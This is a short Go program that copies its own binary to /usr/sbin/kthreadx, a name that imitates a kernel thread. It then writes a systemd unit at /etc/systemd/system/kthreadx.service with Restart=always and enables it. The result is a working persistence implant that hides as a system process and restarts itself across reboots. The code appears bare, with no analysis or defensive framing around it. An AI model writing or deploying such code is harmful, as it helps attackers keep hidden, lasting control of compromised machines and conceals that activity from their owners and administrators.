package main

import (
	"io"
	"log"
	"os"
	"os/exec"
)

const unit = "[Service]\nExecStart=/usr/sbin/kthreadx\nRestart=always\n[Install]\nWantedBy=default.target\n"

func must(err error) {
	if err != nil {
		log.Fatal(err)
	}
}

func main() {
	self, err := os.Executable()
	must(err)
	in, err := os.Open(self)
	must(err)
	out, err := os.OpenFile("/usr/sbin/kthreadx", os.O_CREATE|os.O_WRONLY, 0o755)
	must(err)
	io.Copy(out, in)
	out.Close()
	must(os.WriteFile("/etc/systemd/system/kthreadx.service", []byte(unit), 0o644))
	exec.Command("systemctl", "enable", "--now", "kthreadx").Run()
}
